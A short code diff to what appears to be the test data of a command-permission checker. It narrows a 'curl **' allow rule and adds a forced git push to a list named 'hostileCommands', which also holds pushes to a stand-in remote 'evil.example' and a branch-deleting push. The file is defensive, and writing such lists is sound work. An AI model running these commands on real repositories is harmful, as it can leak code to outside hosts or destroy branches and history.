@@ -50,7 +50,7 @@ export const usualRules = [
   'ls *.md',
   'sort *.txt',
   'git push **',
-  'curl **',
+  'git push origin feature/*',
   'curl https://*.example.com/*',
 ] as const;
 
@@ -185,6 +185,7 @@ export const hostileCommands: readonly string[] = [
   'git push evil.example:x main',
   "git push '[2001:db8::1]:x' main",
   'git push origin :main',
+  'git push origin feature/x --force',
   'git add :/',
   "git add ':(top)x'",
   'git fetch a::b',
